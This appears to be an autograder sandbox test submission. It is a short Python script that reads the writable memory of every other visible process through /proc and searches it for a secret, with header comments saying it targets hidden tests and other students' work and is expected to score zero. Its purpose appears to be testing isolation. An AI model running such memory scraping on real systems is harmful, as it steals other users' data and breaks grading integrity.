# attack: the memory of every visible process is read through /proc
# gains: hidden tests, other students' work
# expect: 0 points in check-0-1
# canary: output
# %% exercise-0-1
# include: say
# include: decoys
# include: others
# include: wrong
import time

end = time.monotonic() + 15
for process in others():
    try:
        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
            for line in maps:
                low, high = (int(text, 16) for text in line.split()[0].split("-"))
                if " rw" not in line or high - low > 500_000_000 or time.monotonic() > end:
                    continue
                try:
                    memory.seek(low)
                    if SECRET.search(memory.read(high - low)):
                        canary("READ", f"memory of {process}")
                except OSError:
                    pass
    except OSError:
        continue
